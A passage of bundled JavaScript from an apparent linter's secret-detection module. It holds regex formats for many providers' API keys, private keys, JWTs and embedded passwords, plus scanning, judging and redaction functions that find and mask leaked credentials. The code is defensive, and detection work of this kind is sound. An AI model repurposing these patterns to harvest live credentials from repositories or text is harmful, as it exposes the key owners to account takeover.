    ], '[A-Za-z0-9+/]{40,60}', {
        left: '',
        accept: secret => /\/[A-Za-z0-9]{20,}$/.test(secret)
    }),
    prefixed('discord-webhook', 'Discord webhook address', ['https://discord.com/api/webhooks/', 'https://discordapp.com/api/webhooks/'], '[0-9]{16,20}/[A-Za-z0-9_-]{60,72}', { left: '' }),
    {
        id: 'telegram-bot',
        name: 'Telegram bot token',
        confidence: 'medium',
        anchors: [8, 9, 10].map(lead => ({ keyword: ':AA', lead })),
        pattern: /(?<![0-9A-Za-z_.-])[0-9]{8,10}:AA[A-Za-z0-9_-]{33}(?![A-Za-z0-9_-])/y,
        prefix: '',
        accept: secret => !isMadeUp(secret.slice(secret.indexOf(':') + 3))
    },
    prefixed('notion', 'Notion token', 'ntn_', `[0-9]{11}[A-Za-z0-9]{35}${notBefore('A-Za-z0-9')}`),
    prefixed('linear', 'Linear token', ['lin_api_', 'lin_oauth_'], '[A-Za-z0-9]{32,128}'),
    prefixed('figma', 'Figma token', ['figd_', 'figp_'], '[A-Za-z0-9_=-]{38,54}'),
    prefixed('atlassian', 'Atlassian API token', ['ATATT3', 'ATCTT3'], '[A-Za-z0-9_=+/-]{100,250}'),
    prefixed('airtable', 'Airtable personal access token', 'pat', String.raw `[A-Za-z0-9]{14}\.[0-9a-f]{64}${notBefore('0-9a-f')}`),
    prefixed('hubspot', 'HubSpot private app token', ['pat-na', 'pat-eu', 'pat-ap'], '[0-9]-[0-9A-Za-z]{8}(?:-[0-9A-Za-z]{4}){3}-[0-9A-Za-z]{12}'),
    prefixed('typeform-token', 'Typeform token', 'tfp_', '[A-Za-z0-9_.=-]{40,70}'),
    prefixed('contentful-token', 'Contentful personal access token', 'CFPAT-', '[A-Za-z0-9_-]{43}'),
    prefixed('mailgun-key', 'Mailgun key', 'key-', `[0-9a-f]{32}${notBefore('0-9a-zA-Z-')}`, {
        left: notAfter('A-Za-z0-9_./-')
    }),
    prefixed('sendgrid', 'SendGrid API key', 'SG.', String.raw `[A-Za-z0-9_-]{20,24}\.[A-Za-z0-9_-]{39,50}`),
    prefixed('brevo-key', 'Brevo API key', ['xkeysib-', 'xsmtpsib-'], '[0-9a-f]{64}-[A-Za-z0-9]{16}'),
    prefixed('resend-key', 'Resend API key', 're_', `[A-Za-z0-9]{7,9}_[A-Za-z0-9]{22,26}${notBefore('A-Za-z0-9_')}`, { accept: secret => hasDigit(secret) && random(secret) }),
    prefixed('twilio-key', 'Twilio API key', 'SK', `[0-9a-f]{32}${notBefore('0-9a-zA-Z')}`),
    // Money
    prefixed('stripe-secret', 'Stripe secret key', ['sk_live_', 'sk_test_', 'rk_live_', 'rk_test_'], '[A-Za-z0-9]{20,247}'),
    prefixed('shopify-token', 'Shopify token', ['shpat_', 'shpca_', 'shppa_', 'shpss_'], `[0-9a-fA-F]{32}${notBefore('0-9a-zA-Z')}`),
    prefixed('square-token', 'Square token', ['sq0atp-', 'sq0csp-'], '[A-Za-z0-9_-]{22,43}'),
    // Models and the tools of agents
    {
        id: 'openai-key',
        name: 'OpenAI API key',
        confidence: 'high',
        anchors: [
            ...['sk-proj-', 'sk-svcacct-', 'sk-admin-', 'sk-service-'].map(keyword => ({
                keyword,
                lead: 0
            })),
            { keyword: 'T3BlbkFJ', lead: 23 }
        ],
        pattern: new RegExp(`${left}sk-(?:(?:proj|svcacct|admin|service)-[A-Za-z0-9_-]{20,120}T3BlbkFJ[A-Za-z0-9_-]{20,120}|[A-Za-z0-9]{20}T3BlbkFJ[A-Za-z0-9]{20})${notBefore('A-Za-z0-9_-')}`, 'y'),
        prefix: 'sk-',
        accept: secret => !isMadeUp(secret.slice(8))
    },
    prefixed('anthropic-key', 'Anthropic API key', ['sk-ant-api', 'sk-ant-admin', 'sk-ant-oat', 'sk-ant-ort'], '[0-9]{2}-[A-Za-z0-9_-]{80,140}'),
    prefixed('openrouter', 'OpenRouter API key', 'sk-or-v1-', `[0-9a-f]{64}${notBefore('0-9a-f')}`),
    prefixed('langfuse-secret', 'Langfuse secret key', 'sk-lf-', uuid),
    prefixed('sk-key', 'API key that begins with sk-', 'sk-', `[A-Za-z0-9]{32,64}${notBefore('A-Za-z0-9_-')}`, {
        confidence: 'medium',
        left: notAfter('A-Za-z0-9_./-'),
        accept: secret => hasDigit(secret) && random(secret)
    }),
    prefixed('elevenlabs-key', 'ElevenLabs API key', 'sk_', `[0-9a-f]{48}${notBefore('0-9a-zA-Z_')}`),
    prefixed('huggingface', 'Hugging Face token', 'hf_', `[A-Za-z0-9]{34}${notBefore('A-Za-z0-9_')}`, { accept: notWords }),
    prefixed('groq', 'Groq API key', 'gsk_', `[A-Za-z0-9]{52}${notBefore('A-Za-z0-9')}`),
    prefixed('xai', 'xAI API key', 'xai-', '[A-Za-z0-9_-]{70,120}'),
    prefixed('replicate', 'Replicate token', 'r8_', `[A-Za-z0-9_-]{37}${notBefore('A-Za-z0-9_-')}`),
    prefixed('nvidia', 'NVIDIA API key', 'nvapi-', '[A-Za-z0-9_-]{60,70}'),
    prefixed('perplexity', 'Perplexity API key', 'pplx-', `[A-Za-z0-9]{48}${notBefore('A-Za-z0-9')}`),
    prefixed('cerebras-key', 'Cerebras API key', 'csk-', `[a-z0-9]{48}${notBefore('A-Za-z0-9')}`),
    prefixed('voyage-key', 'Voyage AI API key', 'pa-', `[A-Za-z0-9_-]{43}${notBefore('A-Za-z0-9_-')}`, { left: notAfter('A-Za-z0-9_./-'), accept: secret => hasDigit(secret) && random(secret) }),
    prefixed('jina-key', 'Jina AI API key', 'jina_', `[A-Za-z0-9_-]{60}${notBefore('A-Za-z0-9_-')}`),
    prefixed('e2b-key', 'E2B API key', 'e2b_', `[0-9a-f]{40}${notBefore('0-9a-f')}`),
    prefixed('tavily', 'Tavily API key', 'tvly-', '(?:(?:dev|prod)-)?[A-Za-z0-9_-]{28,80}', {
        accept: random
    }),
    prefixed('firecrawl', 'Firecrawl API key', 'fc-', `[0-9a-f]{32}${notBefore('0-9a-f')}`, {
        left: notAfter('A-Za-z0-9_./-')
    }),
    prefixed('context7', 'Context7 API key', 'ctx7sk-', uuid),
    {
        ...prefixed('brave-search', 'Brave Search API key', 'BSA', `[A-Za-z0-9_-]{24,40}${notBefore('A-Za-z0-9_-')}`, {
            confidence: 'medium',
            accept: secret => (secret.match(/[0-9]/g)?.length ?? 0) >= 2 &&
                random(secret.slice(3)) &&
                !(0,entropy/* looksLikeWords */.lg)(secret)
        })
    },
    prefixed('apify', 'Apify token', 'apify_api_', '[A-Za-z0-9]{34,38}'),
    prefixed('langsmith', 'LangSmith API key', ['lsv2_pt_', 'lsv2_sk_'], '[0-9a-f]{32}_[0-9a-f]{10}'),
    prefixed('pinecone', 'Pinecone API key', 'pcsk_', '[A-Za-z0-9]{5,6}_[A-Za-z0-9]{63}'),
    prefixed('browserbase-key', 'Browserbase API key', 'bb_live_', `[A-Za-z0-9_-]{27}${notBefore('A-Za-z0-9_-')}`),
    marked('deepl-key', 'DeepL API key', [{ keyword: ':fx', lead: 36 }], `${notAfter('0-9A-Za-z-')}${uuid}:fx${notBefore('A-Za-z0-9')}`),
    // Data and operations
    prefixed('supabase', 'Supabase token', ['sbp_', 'sb_secret_'], '(?:(?<=sbp_)(?:v0_)?[a-z0-9]{40}|(?<=sb_secret_)[A-Za-z0-9_-]{31})'),
    prefixed('neon', 'Neon API key', 'napi_', `[A-Za-z0-9]{64}${notBefore('A-Za-z0-9')}`),
    prefixed('planetscale-token', 'PlanetScale token', ['pscale_tkn_', 'pscale_pw_', 'pscale_oauth_'], '[A-Za-z0-9_.=-]{32,64}'),
    prefixed('sentry', 'Sentry token', ['sntryu_', 'sntrys_'], '(?:(?<=sntryu_)[0-9a-f]{64}|(?<=sntrys_)eyJ[A-Za-z0-9+/=_-]{80,400})'),
    prefixed('postman', 'Postman API key', 'PMAK-', '[0-9a-f]{24}-[0-9a-f]{34}'),
    prefixed('grafana', 'Grafana token', ['glsa_', 'glc_'], '(?:(?<=glsa_)[A-Za-z0-9]{32}_[A-Fa-f0-9]{8}|(?<=glc_)[A-Za-z0-9+/]{32,400}={0,2})'),
    prefixed('posthog-personal', 'PostHog personal API key', 'phx_', '[A-Za-z0-9_-]{41,49}'),
    prefixed('new-relic-key', 'New Relic user key', 'NRAK-', `[A-Z0-9]{27}${notBefore('A-Z0-9')}`),
    prefixed('dynatrace-token', 'Dynatrace token', 'dt0', String.raw `[a-z][0-9]{2}\.[A-Z0-9]{24}\.[A-Z0-9]{64}`),
    // Whatever the provider
    {
        id: 'gcp-service-account',
        name: 'Google service account key',
        confidence: 'high',
        anchors: [{ keyword: '-----BEGIN ', lead: 0 }],
        pattern: /-----BEGIN (?:RSA )?PRIVATE KEY-----/y,
        prefix: '----',
        accept: (_secret, text, offset) => /private_key\\?"\s*:\s*\\?"$/.test(text.slice(Math.max(0, offset - 40), offset)) &&
            /service_account/.test(text.slice(Math.max(0, offset - 1000), offset))
    },
    {
        id: 'private-key',
        name: 'private key',
        confidence: 'high',
        anchors: [{ keyword: '-----BEGIN ', lead: 0 }],
        pattern: /-----BEGIN (?:[A-Z0-9]+ ){0,4}PRIVATE KEY(?: BLOCK)?-----/y,
        prefix: '----',
        accept: (secret, text, offset) => hasKeyBody(text, offset + secret.length)
    },
    {
        id: 'jwt',
        name: 'JSON Web Token',
        confidence: 'medium',
        anchors: [{ keyword: 'eyJ', lead: 0 }],
        pattern: /(?:(?<![A-Za-z0-9_.-])|(?<=\\[nrtbf])|(?<=\\u[0-9A-Fa-f]{4})|(?<=%[0-9A-Fa-f]{2}))eyJ[A-Za-z0-9_-]{15,}\.eyJ[A-Za-z0-9_-]{15,}\.[A-Za-z0-9_-]{20,}/y,
        prefix: 'eyJ',
        accept: secret => !isPublicJwt(secret) && !isMadeUp(secret.slice(secret.lastIndexOf('.') + 1))
    },
    {
        id: 'connection-string-password',
        name: 'password in a connection string',
        confidence: 'medium',
        anchors: ['assword=', 'assword =', 'ASSWORD=', 'Pwd=', 'pwd=', 'PWD='].map(keyword => ({
            keyword,
            lead: 0
        })),
        pattern: /(?:(?:assword|ASSWORD) ?|[Pp][Ww][Dd]|PWD)=[ ]?((?:(?!&quot;)[^;"'\s\\]){4,128})/y,
        prefix: '',
        accept: acceptConnectionPassword
    },
    {
        id: 'url-credentials',
        name: 'password in a URL',
        confidence: 'medium',
        anchors: [{ keyword: '://', lead: 0 }],
        pattern: /(?<=[a-z][a-z0-9+.-]{0,20}):\/\/[^\s:@/"'`<>\\,;()]{0,64}:([^\s@/"'`<>\\,]{3,200})@(?=[A-Za-z0-9.[{$-])/y,
        prefix: '',
        accept: acceptUrlPassword
    }
];
/** A PEM header is a key only when base64 follows it, on the next line or after an escaped break. */
function hasKeyBody(text, offset) {
    const after = text.slice(offset, offset + 600);
    const space = String.raw `(?:[\s>|"'+,]|\\[nr])`;
    const lead = new RegExp(`^${space}{0,60}(?:(?:Proc-Type|DEK-Info|Version|Comment):[^\\n\\\\]{0,100}${space}{1,40}){0,4}`).exec(after)[0];
    const body = /^[A-Za-z0-9+/=]*/.exec(after.slice(lead.length))[0];
    const rest = after.slice(lead.length + body.length);
    if (body.length < 24 || /^(?:\.\.\.|…)/.test(rest))
        return false;
    return !isMadeUp(body.slice(0, 64));
}
/** A `Password=` counts in a connection string: another key of one stands near it. */
function acceptConnectionPassword(secret, text, offset) {
    const before = text.slice(Math.max(0, offset - 400), offset);
    const line = before.slice(Math.max(before.lastIndexOf('\n'), before.lastIndexOf('"')) + 1);
    const after = text.slice(offset + secret.length, offset + secret.length + 200).split(/["'\n]/)[0];
    const key = /(?:^|[;\s"'])(?:Server|Data Source|Address|Addr|Host|Endpoint|User ?Id|Uid|Initial Catalog|Database)\s?=[^;]{1,200}(?:;|$)/i;
    if (!key.test(line) && !key.test(after))
        return false;
    return (!hasReference(secret) &&
        !isWellKnownPassword(secret) &&
        secret.length >= 6 &&
        !/[{}]/.test(secret));
}
const localHost = /^(?:localhost|127\.\d+\.\d+\.\d+|0\.0\.0\.0|\[::1\]|host\.docker\.internal)(?![\w.-])/i;
const exampleHost = /^(?:[\w-]+\.)*(?:example\.(?:com|org|net)|example|invalid|test|host|hostname|server|your[\w-]*\.\w+)(?![\w.-])/i;
function acceptUrlPassword(secret, text, offset) {
    const start = text.lastIndexOf('://', offset);
    const scheme = /[a-z][a-z0-9+.-]{0,20}$/.exec(text.slice(Math.max(0, start - 21), start))?.[0] ?? '';
    if (scheme === 'docker' || scheme === 'oci' || scheme === 'docker-image')
        return false;
    const user = text.slice(start + 3, offset - 1);
    const host = text.slice(offset + secret.length + 1, offset + secret.length + 200);
    if (/^sha(?:1|256|512):/.test(host))
        return false;
    if (hasReference(secret) || isWellKnownPassword(secret))
        return false;
    // What is left of a reference or a format string: `{pass}`, `%s`, `$1`, `***`.
    if (/[{}*]|^%[A-Za-z]|^\$\d|\$\{|\$\(|#\{/.test(secret))
        return false;
    if (secret.toLowerCase() === user.toLowerCase())
        return false;
    const strong = secret.length >= 12 &&
        /[0-9]/.test(secret) &&
        /[A-Za-z]/.test(secret) &&
        !(0,entropy/* looksLikeWords */.lg)(secret);
    if (exampleHost.test(host))
        return strong && !isWellKnownPassword(user.length > 0 ? secret : user);
    if (localHost.test(host))
        return strong;
    // A name without a dot is a service of the same compose file or job; a word there is no secret.
    if (/^[A-Za-z0-9_-]+(?![\w.-])/.test(host))
        return strong;
    return secret.length >= 5;
}
/** Formats that count only where a name says what they are. */
const contextFormats = [
    {
        id: 'azure-devops-pat-legacy',
        name: 'Azure DevOps personal access token (old format)',
        context: /azure[_-]?devops|\bado[_-]|[_-]ado\b|\bado\b|vsts|visualstudio\.com|dev\.azure\.com|system[_.]?accesstoken|(?<![a-z])pat(?![a-z])/,
        pattern: /(?<![A-Za-z0-9])[a-z2-7]{52}(?![A-Za-z0-9])/
    },
    {
        id: 'aws-secret-access-key',
        name: 'AWS secret access key',
        context: /aws.{0,3}secret.{0,3}(?:access.{0,3})?key|secret.{0,2}access.{0,2}key|aws_secret(?![a-z])/,
        pattern: /(?<![A-Za-z0-9+/])[A-Za-z0-9+/]{40}(?![A-Za-z0-9+/=])/
    }
];
//# sourceMappingURL=formats.js.map
;// CONCATENATED MODULE: ./build/shared/lint/credentials/scan.js


const tries = new Map();
formats.forEach((format, index) => {
    const rank = (format.confidence === 'high' ? 0 : 1000) + index;
    for (const { keyword, lead } of format.anchors) {
        const list = tries.get(keyword);
        if (list)
            list.push({ format, lead, rank });
        else
            tries.set(keyword, [{ format, lead, rank }]);
    }
});
/** Texts up to this length are looked through in one go before each keyword is searched. */
const shortText = 4096;
const anyKeyword = new RegExp([...tries.keys()].map(keyword => keyword.replace(/[.*+?^$()[\]{}|\\]/g, '\\$&')).join('|'));
/** How far behind a name its value is looked for, in characters. */
const contextWindow = 100;
/** A name and the shortest credential behind it. */
const shortestContext = 43;
const contexts = contextFormats.map(format => ({
    ...format,
    context: new RegExp(format.context.source, 'gi'),
    pattern: new RegExp(format.pattern.source)
}));
/**
 * Every credential of a known format in a text, in order and without overlaps. Linear in the text:
 * fixed keywords are searched, and patterns tried only where one stands.
 */
function scan(text) {
    const found = [];
    const keywords = text.length > shortText || anyKeyword.test(text) ? tries : [];
    for (const [keyword, list] of keywords) {
        for (let at = text.indexOf(keyword); at >= 0; at = text.indexOf(keyword, at + 1)) {
            for (const { format, lead, rank } of list) {
                if (at < lead)
                    continue;
                format.pattern.lastIndex = at - lead;
                const match = format.pattern.exec(text);
                if (!match)
                    continue;
                const secret = match[1] ?? match[0];
                const start = match.index + match[0].lastIndexOf(secret);
                if (format.accept && !format.accept(secret, text, start))
                    continue;
                const { id, name } = format;
                const prefix = format.prefix.slice(0, 4);
                found.push({ id, name, prefix, start, end: start + secret.length, rank });
            }
        }
    }
    scanContexts(text, found);
    return withoutOverlaps(found);
}
function scanContexts(text, found) {
    if (text.length < shortestContext)
        return;
    for (const format of contexts) {
        format.context.lastIndex = 0;
        for (let name = format.context.exec(text); name; name = format.context.exec(text)) {
            const from = name.index + name[0].length;
            const window = text.slice(from, from + contextWindow);
            const match = format.pattern.exec(window);
            if (!match || from + match.index + match[0].length >= from + contextWindow)
                continue;
            // The value follows on the same line; only quotes, signs and flags stand between.
            if (/\n\s*\n|[;{}]/.test(window.slice(0, match.index)))
                continue;
            if (!isContextSecret(match[0]))
                continue;
            const start = from + match.index;
            found.push({
                id: format.id,
                name: format.name,
                prefix: '',
                start,
                end: start + match[0].length,
                rank: 2000
            });
        }
    }
}
/** The credential of a format that needs a name, when `name` is such a name. */
function scanNamed(name, value) {
    for (const format of contexts) {
        format.context.lastIndex = 0;
        if (!format.context.test(name))
            continue;
        const match = format.pattern.exec(value);
        if (!match || !isContextSecret(match[0]))
            continue;
        return {
            id: format.id,
            name: format.name,
            prefix: '',
            start: match.index,
            end: match.index + match[0].length
        };
    }
    return undefined;
}
/** Hashes and words have the same alphabets; a key has letters, digits and no lower-case hex only. */
function isContextSecret(secret) {
    if (/^[0-9a-f]+$/.test(secret) || /EXAMPLE/.test(secret))
        return false;
    return /[0-9]/.test(secret) && /[A-Za-z]/.test(secret) && !isMadeUp(secret);
}
/** Of matches that overlap the surest stays, and of equals the one that the table names first. */
function withoutOverlaps(found) {
    found.sort((a, b) => a.start - b.start || a.rank - b.rank || b.end - a.end);
    const kept = [];
    for (const hit of found) {
        const last = kept.at(-1);
        if (!last || hit.start >= last.end)
            kept.push(hit);
        else if (hit.rank < last.rank)
            kept[kept.length - 1] = hit;
    }
    return kept.map(({ id, name, prefix, start, end }) => ({ id, name, prefix, start, end }));
}
//# sourceMappingURL=scan.js.map
// EXTERNAL MODULE: ./build/shared/lint/credentials/secret-name.js
var secret_name = __webpack_require__(73313);
;// CONCATENATED MODULE: ./build/shared/lint/credentials/judge.js





/**
 * Judges a value by its format and, failing that, by its name and look. Empty when nothing speaks
 * for a credential: references, placeholders, documented examples, paths, addresses, identifiers.
 */
function judge(name, value, place) {
    const known = scan(value).map(hit => ({ certainty: 'known', ...hit }));
    if (known.length > 0)
        return known;
    if (name !== undefined) {
        const hit = scanNamed(name, value);
        if (hit)
            return [{ certainty: 'known', ...hit }];
    }
    if (place === 'script' || place === 'text')
        return [];
    if (value.length > judge_longestValue)
        return [];
    if (/^[a-z][a-z0-9+.-]*:\/\//i.test(value.trim()))
        return judgeUrl(value, place);
    if (name === undefined)
        return [];
    return judgeNamed(name, value);
}
/** Nobody's password or key is longer; formats are found in texts of any length. */
const judge_longestValue = 8192;
function guess(id, name, start, end) {
    return { certainty: 'guess', id, name, prefix: '', start, end };
}
const scheme = /^(\s*(?:Bearer|Token|Basic|Key|ApiKey|Api-Key|Bot|OAuth|Digest|SharedKey|PRIVATE-TOKEN)[\s=:]+["']?)/i;
function judgeNamed(name, value) {
    const kind = (0,secret_name/* secretName */.G)(name);
    if (kind === undefined)
        return [];
    const fallback = defaultOfReference(value);
    if (fallback) {
        return judgeNamed(name, fallback.text).map(found => ({
            ...found,
            start: found.start + fallback.start,
            end: found.end + fallback.start
        }));
    }
    if (hasReference(value)) {
        // `Bearer ${TOKEN}`, `user:$PASS`: what is left may be a secret only if it looks random.
        const rest = withoutReferences(value).replace(scheme, '');
        if (!(0,entropy/* looksRandom */.EZ)(rest, 24) || /[:/\s]/.test(rest))
            return [];
    }
    const start = scheme.exec(value)?.[1]?.length ?? value.length - value.trimStart().length;
    const end = value.trimEnd().replace(/["']$/, '').length;
    const secret = value.slice(start, end);
    if (/^\s*basic\s/i.test(value)) {
        return isSecretPair(secret)
            ? [guess('basic-authorization', `password in the value of ${name}`, start, end)]
            : [];
    }
    if (isHarmless(secret) || echoes(name, secret))
        return [];
    return isSecret(kind, secret) ? [guess(`named-${kind}`, `value of ${name}`, start, end)] : [];
}
/** True for `user:password` in base64, when the password is one. */
function isSecretPair(encoded) {
    if (!/^[A-Za-z0-9+/_-]{6,}={0,2}$/.test(encoded) || (0,entropy/* isSequential */.Gp)(encoded))
        return false;
    const decoded = Buffer.from(encoded, 'base64').toString('utf8');
    if (!/^[\x20-\x7e]+$/.test(decoded))
        return (0,entropy/* looksRandom */.EZ)(encoded, 16);
    const colon = decoded.indexOf(':');
    if (colon < 0)
        return (0,entropy/* looksRandom */.EZ)(decoded, 16);
    const password = decoded.slice(colon + 1);
    return password.length >= 4 && !isWellKnownPassword(password) && !hasReference(password);
}
function isSecret(kind, secret) {
    if (kind === 'password') {
        if (isWellKnownPassword(secret) || (0,entropy/* isSequential */.Gp)(secret))
            return false;
        return (secret.length >= 6 ||
            (secret.length >= 4 && /[0-9]/.test(secret) && /[^A-Za-z0-9]/.test(secret)));
    }
    if (isPlaceholder(secret))
        return false;
    if (/^[0-9]+$/.test(secret))
        return false;
    if (/^[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}$/i.test(secret)) {
        return !(0,entropy/* isSequential */.Gp)(secret.replaceAll('-', '')) && (0,entropy/* entropy */.Ue)(secret) >= 2.8;
    }
    if (secret.length < 10 || (0,entropy/* hasRun */.gb)(secret, 7))
        return false;
    if ((0,entropy/* looksRandom */.EZ)(secret, 10))
        return true;
    // Keys that people thought up: letters, digits and signs mixed, but no words.
    const classes = [/[a-z]/, /[A-Z]/, /[0-9]/, /[^A-Za-z0-9]/].filter(test => test.test(secret)).length;
    return classes >= 3 && /[0-9]/.test(secret) && (0,entropy/* entropy */.Ue)(secret) >= 3.2 && !(0,entropy/* looksLikeWords */.lg)(secret);
}
/** Values that are certainly no secret, whatever their name: paths, addresses, switches, prose. */
function isHarmless(value) {
    const text = value.trim();
    if (/\s/.test(text))
        return true;
    if (/^(?:true|false|yes|no|on|off|none|null|nil|auto|inherit|read|write|oauth2?|oidc|default|optional|required)$/i.test(text))
        return true;
    if (/^(?:[~.]{0,2}[\\/]|[A-Za-z]:[\\/]|\.{1,2}$)/.test(text) && !/^\/[^/]*[+=]/.test(text))
        return true;
    if (/^[^\s@]+@[^\s@]+\.[A-Za-z]{2,}$/.test(text))
        return true;
    if (/\.(?:pem|key|crt|cer|pfx|p12|json|ya?ml|txt|env|toml|ini|cfg|conf|jks|pub|asc|gpg|js|mjs|ts|py|sh|ps1)$/i.test(text))
        return true;
    if (/^(?:sha(?:1|256|384|512)|md5)[-:]/i.test(text))
        return true;
    if (/^[a-z][a-z0-9+.-]*:\/\//i.test(text))
        return true;
    if (/^(?:\d{1,3}\.){3}\d{1,3}(?::\d+)?$/.test(text))
        return true;
    if (/^v?\d+(?:\.\d+){1,3}(?:[-+][\w.-]+)?$/.test(text))
        return true;
    if (/^\d{4}-\d{2}-\d{2}(?:[T ].*)?$/.test(text))
        return true;
    // A model with its date: claude-sonnet-4-20250514
    if (/^[a-z][a-z0-9.]*(?:-[a-z0-9.]{1,12}){0,5}-(?:\d{4}-\d{2}-\d{2}|20\d{6})$/i.test(text))
        return true;
    return false;
}
/** `SUPABASE_ACCESS_TOKEN: supabase-access-token` names itself. */
function echoes(name, value) {
    const normal = (text) => text.toLowerCase().replace(/[^a-z0-9]/g, '');
    const own = normal(name);
    const other = normal(value);
    return (other !== '' &&
        (own === other || own.endsWith(other) || (other.length > 5 && other.endsWith(own))));
}
const secretParameter = /^(?:key|api_?-?key|access_?-?key|token|access_?-?token|auth_?-?token|auth|secret|client_?-?secret|password|passwd|pwd|pass|sig|signature|code|credential|subscription-key|apikeyid|x-api-key|tavilyApiKey)$/i;
/** Query values named as secrets and path segments that nobody types. */
function judgeUrl(value, place) {
    const found = [];
    const question = value.indexOf('?');
    const pathEnd = question < 0 ? value.length : question;
    if (question >= 0) {
        let at = question + 1;
        for (const part of value.slice(question + 1).split(/[&;]/)) {
            const equals = part.indexOf('=');
            const key = equals < 0 ? part : part.slice(0, equals);
            const secret = equals < 0 ? '' : part.slice(equals + 1);
            const start = at + equals + 1;
            at += part.length + 1;
            if (secret === '' || hasReference(secret))
                continue;
            const known = scanNamed(key, secret);
            if (known)
                found.push({
                    certainty: 'known',
                    ...known,
                    start: start + known.start,
                    end: start + known.end
                });
            else if (isSecretParameter(key) && isSecret('key', secret)) {
                found.push(guess('url-parameter', `value of the parameter ${key} in a URL`, start, start + secret.length));
            }
        }
    }
    if (place !== 'url')
        return found;
    let at = value.indexOf('://') + 3;
    value
        .slice(at, pathEnd)
        .split('/')
        .forEach((segment, index) => {
        if (index > 0 && isSecretSegment(segment)) {
            found.push(guess('url-path', 'secret in the path of a URL', at, at + segment.length));
        }
        at += segment.length + 1;
    });
    return found;
}
function isSecretParameter(key) {
    return secretParameter.test(key) || (0,secret_name/* secretName */.G)(key) !== undefined;
}
/** Long, mixed and without words; not a UUID or a hash, which mostly identify. */
function isSecretSegment(segment) {
    if (segment.length < 24 || hasReference(segment) || isPlaceholder(segment))
        return false;
    if (/^[0-9a-f-]+$/i.test(segment) || !/^[A-Za-z0-9_=-]+$/.test(segment))
        return false;
    return (/[0-9]/.test(segment) &&
        /[A-Z]/.test(segment) &&
        /[a-z]/.test(segment) &&
        (0,entropy/* looksRandom */.EZ)(segment, 24) &&
        (0,entropy/* entropy */.Ue)(segment) >= 3.6);
}
//# sourceMappingURL=judge.js.map
;// CONCATENATED MODULE: ./build/shared/lint/credentials/judge-site.js

const judged = new WeakMap();
/** Judges a site; several rules ask about the same one. */
function judgeSite(site) {
    const known = judged.get(site);
    if (known)
        return known;
    const result = judge(site.name, site.value.text, site.place);
    judged.set(site, result);
    return result;
}
//# sourceMappingURL=judge-site.js.map
;// CONCATENATED MODULE: ./build/shared/lint/credentials/shown-name.js


const longest = 60;
/**
 * A name out of a file as it may stand in a message: names are text like any other, and one that
 * holds a credential, or looks as if it did, is not repeated.
 */
function shownName(name) {
    if (scan(name).length > 0)
        return 'a name that holds a credential';
    const words = name.split(/[^A-Za-z0-9+/=]+/);
    if (words.some(word => word.length >= 20 && (0,entropy/* looksRandom */.EZ)(word, 20)))
        return 'a name that looks like a credential';
    return name.length > longest ? `${name.slice(0, longest)}…` : name;
}
//# sourceMappingURL=shown-name.js.map
;// CONCATENATED MODULE: ./build/shared/lint/credentials/without-credentials.js

/** Shorter texts hold no credential of any format. */
const mayHold = /[A-Za-z0-9_+/=.~-]{16}/;
/** A text for people, with every credential of a known format replaced by what it is. */
function withoutCredentials(text) {
    if (!mayHold.test(text))
        return text;
    let result = '';
    let position = 0;
    for (const { start, end, name } of scan(text)) {
        result += `${text.slice(position, start)}(${name})`;
        position = end;
    }
    return result + text.slice(position);
}
//# sourceMappingURL=without-credentials.js.map
;// CONCATENATED MODULE: ./build/shared/lint/credentials/index.js









//# sourceMappingURL=index.js.map

/***/ }),

/***/ 73313:
/***/ (function(__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   G: () => (/* binding */ secretName)
/* harmony export */ });
/* harmony import */ var _entropy_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(36584);

const passwordWords = new Set(['password', 'passwd', 'passphrase', 'pwd', 'pass', 'passcode', 'pw']);
const keyWords = new Set([
    'token',
    'secret',
    'apikey',
    'apitoken',
    'authtoken',
    'accesstoken',
    'accesskey',
    'secretkey',
    'privatekey',
    'clientsecret',
    'credential',
    'credentials',
    'creds',
    'bearer',
    'authorization',
    'cookie',
    'pat',
    'jwt',
    'connectionstring',
    'connstr',
    'signature',
    'sig'
]);
/** Words before `key` that make it a secret one. */
const secretKeys = new Set([
    'api',
    'access',
    'secret',
    'private',
    'auth',
    'account',
    'admin',
    'service',
    'subscription',
    'master',
    'shared',
    'signing',
    'encryption',
    'license',
    'storage',
    'function',
    'host',
    'root',
    'app',
    'application',
    'client',
    'query',
    'session',
    'bot',
    'personal',
    'security'
]);
/** Last words that make the whole name harmless: `TOKEN_URL`, `password-file`, `secretName`. */
const harmlessEnds = new Set(`id ids name names url urls uri uris endpoint host hostname port path paths file files filename dir
  directory folder location type types kind mode format prefix suffix length len size count limit
  budget expiry expires expiration expire ttl lifetime age duration timeout interval period version
  versions provider providers issuer audience scope scopes policy policies header headers field
  fields param parameter parameters enabled disabled required optional env var variable variables
  ref refs reference references source store stores manager method methods hint label labels
  description title help text prompt message hash digest checksum sha sha1 sha256 sha512 md5
  fingerprint thumbprint helper command cmd script engine backend vault template pattern regex
  rotation regexp algorithm alg usage usages permission permissions group groups role roles
  email username user owner status state rules rule filter list index column table selector
  placeholder schema input output class handler service server client tag tags region zone
  max min width height model`
    .split(/\s+/)
    .filter(Boolean));
/** First words that make a name a question or a measure: `hasToken`, `max-tokens`. */
const harmlessStarts = new Set([
    'max',
    'min',
    'num',
    'total',
    'is',
    'has',
    'use',
    'uses',
    'enable',
    'disable',
    'allow',
    'skip',
    'require',
    'requires',
    'persist',
    'show',
    'hide',
    'public',
    'publishable',
    'anon',
    'cache',
    'restore',
    'no',
    'forgot',
    'reset',
    'sort',
    'partition',
    'foreign'
]);
/** Names that hold a secret word and are known not to be one. */
const harmlessNames = new Set([
    'id-token',
    'idtoken',
    'secrets',
    'tokens',
    'passwords',
    'pwd',
    'oldpwd',
    'token-usage',
    'key-vault',
    'keyvault'
]);
/**
 * What the name of a value says of it. Takes variables, keys, flags, headers and query parameters:
 * `GITHUB_TOKEN`, `apiKey`, `--access-token`, `X-Api-Key`, `client_secret`.
 */
function secretName(name) {
    if (name.length > 200)
        return undefined;
    const plain = name.replace(/^[-/]+/, '').trim();
    if (harmlessNames.has(plain.toLowerCase()))
        return undefined;
    // `--key` of a command line; a bare `key` elsewhere is that of a cache or a map.
    if (/^--?key$/.test(name))
        return 'key';
    const words = (0,_entropy_js__WEBPACK_IMPORTED_MODULE_0__/* .wordsOf */ .Z9)(plain);
    while (words.length > 1 && /^[0-9]+$/.test(words.at(-1)))
        words.pop();
